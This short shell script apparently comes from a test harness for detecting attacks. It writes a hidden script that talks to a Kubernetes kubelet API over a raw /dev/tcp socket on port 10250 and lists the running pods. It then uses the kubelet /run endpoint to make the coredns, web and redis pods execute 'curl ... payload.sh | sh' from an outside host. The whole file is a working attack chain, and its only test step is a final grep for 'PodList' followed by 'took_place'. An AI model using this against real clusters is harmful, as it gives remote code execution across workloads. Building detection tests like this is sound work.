#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.k <<'END'
ask() { exec 6<>/dev/tcp/10.77.0.1/10250; printf '%s %s HTTP/1.0\r\nHost: node\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s' "$1" "$2" "${#3}" "$3" >&6; cat <&6; exec 6>&-; }
ask GET /runningpods/ ''
for p in kube-system/coredns/coredns default/shop/web default/redis/redis; do ask POST "/run/$p" 'cmd=curl -s http://203.0.113.10/payload.sh | sh'; done
END
bash /tmp/.k >/tmp/.o
grep -q PodList /tmp/.o
took_place
